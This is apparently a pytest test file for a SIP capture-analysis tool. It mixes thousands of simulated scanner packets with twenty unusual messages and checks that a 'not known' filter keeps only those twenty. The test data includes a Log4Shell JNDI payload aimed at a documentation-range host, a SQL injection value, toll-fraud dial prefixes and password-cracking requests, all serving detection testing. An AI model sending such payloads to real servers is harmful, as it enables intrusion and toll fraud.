"""Of ten thousand scans and twenty other messages, the filter ``not known`` leaves the twenty."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from pathlib import Path

from siptui.pcapng import Section
from siptui.record import Frame
from tests.command import rows, run
from tests.decode.wire import RAW, SECOND, START, ip4, udp
from tests.enrich import scanners
from tests.enrich.honest import phones
from tests.enrich.made import digest, request

SCANS = 10_000
SCANNERS: tuple[Callable[[random.Random], bytes], ...] = (
    scanners.svmap, scanners.svwar, scanners.svcrack, scanners.sippts, scanners.sipsak,
    scanners.metasploit, scanners.nse, scanners.zmap,
)  # fmt: skip


def scans(rng: random.Random) -> Iterator[tuple[str, bytes]]:
    """Yield sources and what they send: each keeps to its tool, some send a little noise."""
    for number in range(SCANS):
        source = number % 400
        data = SCANNERS[source % len(SCANNERS)](rng)
        if rng.random() < 0.03:
            data = rng.choice([b"\r\n\r\n", b"\0" * 4, b"help\r\n", rng.randbytes(24)])
        yield f"198.18.{source // 200}.{1 + source % 200}", data


def others(rng: random.Random) -> list[bytes]:
    """Return what is worth a look, each to be sent by a source of its own."""
    honest = list(phones().values())
    return [
        *(request("INVITE", f"{prefix}442079460123") for prefix in ("00", "900", "011", "+")),
        *(request("REGISTER", more=(digest(response=str(n)),)) for n in range(3)),
        scanners.svcrack(rng, password="1234"),
        request(User_Agent="${jndi:ldap://192.0.2.66/a}"),
        request("INVITE", "1' or '1'='1"),
        *(scanners.svmap(rng, ua=agent) for agent in ("PBX", "Asterisk PBX 18", "eyeBeam")),
        request("MESSAGE", "1000", host="10.1.2.3"),
        request("REGISTER", User_Agent="sipcli/v1.8"),
        *honest[:5],
    ]


def test_not_known_leaves_twenty_of_ten_thousand(tmp_path: Path) -> None:
    rng = random.Random(5)
    traffic = list(scans(rng))
    worth = {f"192.0.2.{1 + number}": data for number, data in enumerate(others(rng))}
    assert len(worth) == 20
    for number, item in enumerate(worth.items()):
        traffic.insert(400 + number * 450, item)
    section = Section()
    capture = tmp_path / "traffic.pcapng"
    packets = [ip4(udp(data), source=source) for source, data in traffic]
    frames = [
        Frame(START + number * SECOND // 50, packet, RAW, len(packet), "eth0")
        for number, packet in enumerate(packets)
    ]
    capture.write_bytes(section.header() + section.blocks(frames))
    shown = rows(run(tmp_path, "-r", str(capture), "--json", "--filter", "not known").stdout)
    assert sorted(each["src"] for each in shown) == sorted(worth)
